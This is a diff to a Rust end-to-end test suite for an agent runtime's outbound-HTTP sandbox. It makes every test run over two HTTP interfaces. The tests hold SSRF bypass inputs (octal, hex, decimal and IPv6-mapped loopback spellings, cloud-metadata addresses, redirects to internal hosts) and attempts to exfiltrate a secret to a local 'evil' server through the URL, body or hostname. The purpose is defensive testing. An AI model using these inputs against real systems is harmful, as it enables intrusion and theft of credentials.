@@ -1,4 +1,6 @@
-//! Outbound HTTP and secrets, end to end (issue 4): a skill (the `probe` fixture) tries to
+//! Outbound HTTP and secrets, end to end (issues 4, 12), over both HTTP interfaces: each
+//! test runs with `probe` (runproof:skill/http) and with `probe_wasi_http` (standard
+//! wasi:http/outgoing-handler), see `over_both_interfaces!`. A skill tries to
 //! reach what it was not granted, or to send a secret where it must not go. For each: the
 //! runtime survives, the run ends `failed` with the reason, the denied attempt is a recorded
 //! `host.http` step, the server behind the forbidden destination is never contacted, and the
@@ -191,8 +193,8 @@ fn trickling_server() -> (u16, Arc<AtomicUsize>) {
 // ---------------------------------------------------------------------------------------
 // Runs.
 
-fn probe_plan(actions: &[String]) -> Value {
-    json!({"planner": "e2e", "steps": [{"step_id": "net", "skill": "probe", "params": {"actions": actions}}]})
+fn probe_plan(p: Probe, actions: &[String]) -> Value {
+    json!({"planner": "e2e", "steps": [{"step_id": "net", "skill": p.skill(), "params": {"actions": actions}}]})
 }
 
 fn request_action(spec: Value) -> String {
@@ -279,24 +281,26 @@ fn verified(run_id: &str, tenant: &str) {
 /// Runs `actions` as the probe under an agent granted `hosts`, expects a failed run whose
 /// last host.http step is a recorded denial containing `reason`; returns (run_id, message).
 async fn denied_run(
+    p: Probe,
     name: &str,
     hosts: &[&str],
     actions: &[String],
     reason: &str,
 ) -> (String, String) {
-    add_test_skill("probe");
+    add_test_skill(p.skill());
     let tenant = tenant(name);
     let agent_id = agent_with(&tenant, hosts, &[]);
-    denied_run_as(&tenant, &agent_id, actions, reason).await
+    denied_run_as(p, &tenant, &agent_id, actions, reason).await
 }
 
 async fn denied_run_as(
+    p: Probe,
     tenant: &str,
     agent_id: &str,
     actions: &[String],
     reason: &str,
 ) -> (String, String) {
-    let r = run_plan(agent_id, tenant, &probe_plan(actions));
+    let r = run_plan(agent_id, tenant, &probe_plan(p, actions));
     assert_eq!(r.code, 3, "a denied request fails the run (exit 3): {r:?}");
     let report = r.json();
     assert_eq!(report["status"], "failed");
@@ -321,10 +325,14 @@ async fn denied_run_as(
         message.contains(reason),
         "denial {message:?} should say {reason:?}"
     );
-    assert!(
-        error.contains(reason),
-        "the run's error should carry the reason {reason:?}: {error}"
-    );
+    // Our interface hands the reason to the skill; the standard one has a code only
+    // (HTTP-request-denied): the reason is in the recorded step either way (above).
+    if p == Probe::Runproof {
+        assert!(
+            error.contains(reason),
+            "the run's error should carry the reason {reason:?}: {error}"
+        );
+    }
     verified(&run_id, tenant);
     (run_id, message)
 }
@@ -332,10 +340,10 @@ async fn denied_run_as(
 // ---------------------------------------------------------------------------------------
 // SSRF.
 
-#[tokio::test]
-async fn loopback_is_denied_under_a_wildcard_grant() {
+async fn loopback_is_denied_under_a_wildcard_grant(p: Probe) {
     let server = Server::ok();
     denied_run(
+        p,
         "net-loopback",
         &["http://*:*"],
         &[get_action(&server.url("/ok"))],
@@ -349,9 +357,9 @@ async fn loopback_is_denied_under_a_wildcard_grant() {
     );
 }
 
-#[tokio::test]
-async fn cloud_metadata_is_denied() {
+async fn cloud_metadata_is_denied(p: Probe) {
     let (_, m) = denied_run(
+        p,
         "net-metadata",
         &["http://*:*", "http://169.254.0.0/16:*"],
         &[get_action(
@@ -362,6 +370,7 @@ async fn cloud_metadata_is_denied() {
     .await;
     assert!(m.contains("by its exact IP"), "{m}");
     denied_run(
+        p,
         "net-metadata6",
         &["http://*:*"],
         &[get_action("http://[fd00:ec2::254]/latest/")],
@@ -370,10 +379,10 @@ async fn cloud_metadata_is_denied() {
     .await;
 }
 
-#[tokio::test]
-async fn private_address_by_decimal_ip_is_denied() {
+async fn private_address_by_decimal_ip_is_denied(p: Probe) {
     // 167772161 = 10.0.0.1.
     denied_run(
+        p,
         "net-decimal",
         &["http://*:*"],
         &[get_action("http://167772161/")],
@@ -382,24 +391,24 @@ async fn private_address_by_decimal_ip_is_denied() {
     .await;
 }
 
-#[tokio::test]
-async fn loopback_by_octal_hex_short_and_ipv4_mapped_spellings_is_denied() {
+async fn loopback_by_octal_hex_short_and_ipv4_mapped_spellings_is_denied(p: Probe) {
     let server = Server::ok();
-    let p = server.port;
+    let port = server.port;
     for (i, url) in [
-        format!("http://0177.0.0.1:{p}/ok"),
-        format!("http://0x7f.1:{p}/ok"),
-        format!("http://0X7F000001:{p}/ok"),
-        format!("http://2130706433:{p}/ok"),
-        format!("http://127.1:{p}/ok"),
-        format!("http://127.0.0.1.:{p}/ok"),
-        format!("http://[::ffff:127.0.0.1]:{p}/ok"),
-        format!("http://[::ffff:7f00:1]:{p}/ok"),
+        format!("http://0177.0.0.1:{port}/ok"),
+        format!("http://0x7f.1:{port}/ok"),
+        format!("http://0X7F000001:{port}/ok"),
+        format!("http://2130706433:{port}/ok"),
+        format!("http://127.1:{port}/ok"),
+        format!("http://127.0.0.1.:{port}/ok"),
+        format!("http://[::ffff:127.0.0.1]:{port}/ok"),
+        format!("http://[::ffff:7f00:1]:{port}/ok"),
     ]
     .iter()
     .enumerate()
     {
         denied_run(
+            p,
             &format!("net-spelling{i}"),
             &["http://*:*"],
             &[get_action(url)],
@@ -410,11 +419,11 @@ async fn loopback_by_octal_hex_short_and_ipv4_mapped_spellings_is_denied() {
     assert_eq!(server.hits(), 0);
 }
 
-#[tokio::test]
-async fn a_name_that_resolves_to_loopback_is_denied() {
+async fn a_name_that_resolves_to_loopback_is_denied(p: Probe) {
     let server = Server::ok();
     let url = format!("http://localhost:{}/ok", server.port);
     denied_run(
+        p,
         "net-localhost",
         &["http://*:*"],
         &[get_action(&url)],
@@ -424,20 +433,25 @@ async fn a_name_that_resolves_to_loopback_is_denied() {
     assert_eq!(server.hits(), 0);
 }
 
-#[tokio::test]
-async fn a_redirect_from_an_allowed_host_to_loopback_is_denied() {
+async fn a_redirect_from_an_allowed_host_to_loopback_is_denied(p: Probe) {
     let internal = Server::ok();
     let front = Server::redirect_to(internal.url("/admin"));
     // The front server is granted by its exact address and port; anything else only by `*`.
     let grant = format!("http://127.0.0.1:{}", front.port);
     let (_, m) = denied_run(
+        p,
         "net-redirect",
         &[&grant, "http://*:*"],
         &[get_action(&front.url("/start"))],
         "127.0.0.1 is a loopback address",
     )
     .await;
-    assert!(m.starts_with("redirect hop 1:"), "{m}");
+    match p {
+        // The host follows the redirect, checking the hop from scratch.
+        Probe::Runproof => assert!(m.starts_with("redirect hop 1:"), "{m}"),
+        // The skill follows it, with a new request the host checks from scratch.
+        Probe::WasiHttp => assert!(!m.contains("redirect hop"), "{m}"),
+    }
     assert_eq!(front.hits(), 1, "the allowed host was asked");
     assert_eq!(
         internal.hits(),
@@ -446,16 +460,15 @@ async fn a_redirect_from_an_allowed_host_to_loopback_is_denied() {
     );
 }
 
-#[tokio::test]
-async fn a_slow_server_cannot_hold_the_run() {
-    add_test_skill("probe");
+async fn a_slow_server_cannot_hold_the_run(p: Probe) {
+    add_test_skill(p.skill());
     let (port, hits) = trickling_server();
     let tenant = tenant("net-slow");
     let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &[]);
     let started = Instant::now();
     let action =
         request_action(json!({"url": format!("http://127.0.0.1:{port}/"), "timeout_ms": 1000}));
-    let r = run_plan(&agent_id, &tenant, &probe_plan(&[action]));
+    let r = run_plan(&agent_id, &tenant, &probe_plan(p, &[action]));
     // Generous bound: the server would trickle for 120 s.
     assert!(
         started.elapsed() < Duration::from_secs(60),
@@ -478,11 +491,10 @@ async fn a_slow_server_cannot_hold_the_run() {
     verified(&run_id, &tenant);
 }
 
-#[tokio::test]
-async fn a_slow_server_cannot_hold_the_run_past_the_agents_deadline() {
+async fn a_slow_server_cannot_hold_the_run_past_the_agents_deadline(p: Probe) {
     // No per-request timeout: the request would wait 30 s by default, the server would
     // trickle for 120 s. The agent grants 2 s per invocation, and that is what ends it.
-    add_test_skill("probe");
+    add_test_skill(p.skill());
     let (port, hits) = trickling_server();
     let tenant = tenant("net-deadline");
     let agent_id = runtime(&[
@@ -507,7 +519,7 @@ async fn a_slow_server_cannot_hold_the_run_past_the_agents_deadline() {
     let r = run_plan(
         &agent_id,
         &tenant,
-        &probe_plan(&[get_action(&format!("http://127.0.0.1:{port}/"))]),
+        &probe_plan(p, &[get_action(&format!("http://127.0.0.1:{port}/"))]),
     );
     // Generous bound, well under the 30 s request default and the server's 120 s.
     assert!(
@@ -531,9 +543,8 @@ async fn a_slow_server_cannot_hold_the_run_past_the_agents_deadline() {
 
 const VALUE: &str = "sk-e2e-7f3a9c1d5b";
 
-#[tokio::test]
-async fn secret_exfiltration_to_another_host_in_the_url_or_body_is_denied() {
-    add_test_skill("probe");
+async fn secret_exfiltration_to_another_host_in_the_url_or_body_is_denied(p: Probe) {
+    add_test_skill(p.skill());
     let good = Server::echo();
     let evil = Server::echo();
     let tenant = tenant("net-exfil");
@@ -550,17 +561,17 @@ async fn secret_exfiltration_to_another_host_in_the_url_or_body_is_denied() {
     );
 
     let in_url = get_action(&evil.url("/collect?k={{secret:TOKEN}}"));
-    let (run1, _) = denied_run_as(&tenant, &agent_id, &[in_url], &denial).await;
+    let (run1, _) = denied_run_as(p, &tenant, &agent_id, &[in_url], &denial).await;
     let in_body = request_action(
         json!({"method": "POST", "url": evil.url("/collect"), "body": "stolen={{secret:TOKEN}}"}),
     );
-    let (run2, _) = denied_run_as(&tenant, &agent_id, &[in_body], &denial).await;
+    let (run2, _) = denied_run_as(p, &tenant, &agent_id, &[in_body], &denial).await;
     // In the host part the value would go to DNS before any check: refused outright.
     let in_host = get_action(&format!(
         "http://{{{{secret:TOKEN}}}}.example.com:{}/",
         good.port
     ));
-    let r = run_plan(&agent_id, &tenant, &probe_plan(&[in_host]));
+    let r = run_plan(&agent_id, &tenant, &probe_plan(p, &[in_host]));
     assert_eq!(r.code, 3, "{r:?}");
 
     assert_eq!(evil.hits(), 0, "the other host must never be contacted");
@@ -575,9 +586,8 @@ async fn secret_exfiltration_to_another_host_in_the_url_or_body_is_denied() {
     }
 }
 
-#[tokio::test]
-async fn a_secret_reaches_its_allowed_host_and_never_the_trace() {
-    add_test_skill("probe");
+async fn a_secret_reaches_its_allowed_host_and_never_the_trace(p: Probe) {
+    add_test_skill(p.skill());
     let server = Server::ok();
     let tenant = tenant("net-secret-ok");
     let info = set_secret(
@@ -607,7 +617,7 @@ async fn a_secret_reaches_its_allowed_host_and_never_the_trace() {
         "headers": [["authorization", "Bearer {{secret:TOKEN}}"]],
         "body": "{\"token\":\"{{secret:TOKEN}}\"}",
     }));
-    let r = run_plan(&agent_id, &tenant, &probe_plan(&[action]));
+    let r = run_plan(&agent_id, &tenant, &probe_plan(p, &[action]));
     assert_eq!(r.code, 0, "{r:?}");
     assert!(
         !r.stdout.contains(VALUE),
@@ -668,7 +678,7 @@ async fn a_secret_reaches_its_allowed_host_and_never_the_trace() {
     );
     let start: Value = serde_json::from_str(&all[0]).unwrap();
     assert_eq!(
-        start["body"]["policy"]["secrets"]["probe"],
+        start["body"]["policy"]["secrets"][p.skill()],
         json!(["TOKEN"]),
         "{start}"
     );
@@ -678,6 +688,7 @@ async fn a_secret_reaches_its_allowed_host_and_never_the_trace() {
     let other =
         request_action(json!({"url": server.url("/"), "headers": [["x-k", "{{secret:OTHER}}"]]}));
     denied_run_as(
+        p,
         &tenant,
         &agent_id,
         &[other],
@@ -692,9 +703,8 @@ async fn a_secret_reaches_its_allowed_host_and_never_the_trace() {
     assert!(!listed.stdout.contains("OTHER"), "{}", listed.stdout);
 }
 
-#[tokio::test]
-async fn an_echoed_secret_is_redacted_before_the_skill_and_the_trace_see_it() {
-    add_test_skill("probe");
+async fn an_echoed_secret_is_redacted_before_the_skill_and_the_trace_see_it(p: Probe) {
+    add_test_skill(p.skill());
     let server = Server::echo();
     let tenant = tenant("net-echo");
     set_secret(
@@ -707,7 +717,7 @@ async fn an_echoed_secret_is_redacted_before_the_skill_and_the_trace_see_it() {
     let action = request_action(
         json!({"url": server.url("/echo"), "headers": [["authorization", "Bearer {{secret:TOKEN}}"]]}),
     );
-    let r = run_plan(&agent_id, &tenant, &probe_plan(&[action]));
+    let r = run_plan(&agent_id, &tenant, &probe_plan(p, &[action]));
     assert_eq!(r.code, 0, "{r:?}");
     assert_eq!(
         server.received()[0]
@@ -742,9 +752,8 @@ async fn an_echoed_secret_is_redacted_before_the_skill_and_the_trace_see_it() {
     verified(&run_id, &tenant);
 }
 
-#[tokio::test]
-async fn a_redirect_never_carries_a_secret_outside_its_hosts() {
-    add_test_skill("probe");
+async fn a_redirect_never_carries_a_secret_outside_its_hosts(p: Probe) {
+    add_test_skill(p.skill());
     let elsewhere = Server::echo();
     let front = Server::redirect_to(elsewhere.url("/landing"));
     let tenant = tenant("net-secret-redirect");
@@ -760,10 +769,11 @@ async fn a_redirect_never_carries_a_secret_outside_its_hosts() {
         json!({"url": front.url("/start"), "headers": [["authorization", "Bearer {{secret:TOKEN}}"]]}),
     );
     let reason = format!(
-        "redirect hop 1: secret TOKEN is not granted for host http://127.0.0.1:{}",
+        "{}secret TOKEN is not granted for host http://127.0.0.1:{}",
+        p.hop_prefix(1),
         elsewhere.port
     );
-    let (run_id, _) = denied_run_as(&tenant, &agent_id, &[action], &reason).await;
+    let (run_id, _) = denied_run_as(p, &tenant, &agent_id, &[action], &reason).await;
     assert_eq!(front.hits(), 1, "the secret's own host got the request");
     assert_eq!(
         elsewhere.hits(),
@@ -850,3 +860,64 @@ fn secret_commands_refuse_bad_input_and_never_print_values() {
         0o700
     );
 }
+
+// ---------------------------------------------------------------------------------------
+// Every outbound test runs over both interfaces.
+
+/// Which HTTP interface the skill under test uses.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Probe {
+    /// `probe`: the SDK over `runproof:skill/http`.
+    Runproof,
+    /// `probe_wasi_http`: the `wasi` crate over standard `wasi:http/outgoing-handler`.
+    WasiHttp,
+}
+
+impl Probe {
+    fn skill(self) -> &'static str {
+        match self {
+            Probe::Runproof => "probe",
+            Probe::WasiHttp => "probe_wasi_http",
+        }
+    }
+
+    /// How a denial on redirect hop `n` starts: the host follows redirects of our own
+    /// interface (and says which hop); a wasi:http client follows them itself, each hop a
+    /// request of its own.
+    fn hop_prefix(self, n: usize) -> String {
+        match self {
+            Probe::Runproof => format!("redirect hop {n}: "),
+            Probe::WasiHttp => String::new(),
+        }
+    }
+}
+
+macro_rules! over_both_interfaces {
+    ($($name:ident),* $(,)?) => {$(
+        mod $name {
+            #[tokio::test]
+            async fn runproof_http() {
+                super::$name(super::Probe::Runproof).await
+            }
+            #[tokio::test]
+            async fn wasi_http() {
+                super::$name(super::Probe::WasiHttp).await
+            }
+        }
+    )*};
+}
+
+over_both_interfaces!(
+    loopback_is_denied_under_a_wildcard_grant,
+    cloud_metadata_is_denied,
+    private_address_by_decimal_ip_is_denied,
+    loopback_by_octal_hex_short_and_ipv4_mapped_spellings_is_denied,
+    a_name_that_resolves_to_loopback_is_denied,
+    a_redirect_from_an_allowed_host_to_loopback_is_denied,
+    a_slow_server_cannot_hold_the_run,
+    a_slow_server_cannot_hold_the_run_past_the_agents_deadline,
+    secret_exfiltration_to_another_host_in_the_url_or_body_is_denied,
+    a_secret_reaches_its_allowed_host_and_never_the_trace,
+    an_echoed_secret_is_redacted_before_the_skill_and_the_trace_see_it,
+    a_redirect_never_carries_a_secret_outside_its_hosts,
+);
